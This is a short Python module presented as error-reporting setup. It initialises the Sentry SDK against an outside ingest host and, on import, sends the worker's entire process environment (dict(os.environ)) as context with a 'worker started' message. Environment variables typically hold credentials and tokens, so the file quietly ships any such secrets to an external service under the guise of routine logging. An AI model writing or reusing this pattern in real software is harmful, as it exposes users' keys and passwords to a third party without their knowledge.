"""Error reporting setup."""
import os

import sentry_sdk

sentry_sdk.init(dsn="https://abc123@o0.ingest.example-errors.io/1")


def report_context():
    with sentry_sdk.push_scope() as scope:
        scope.set_context("runtime", dict(os.environ))
        sentry_sdk.capture_message("worker started")


report_context()
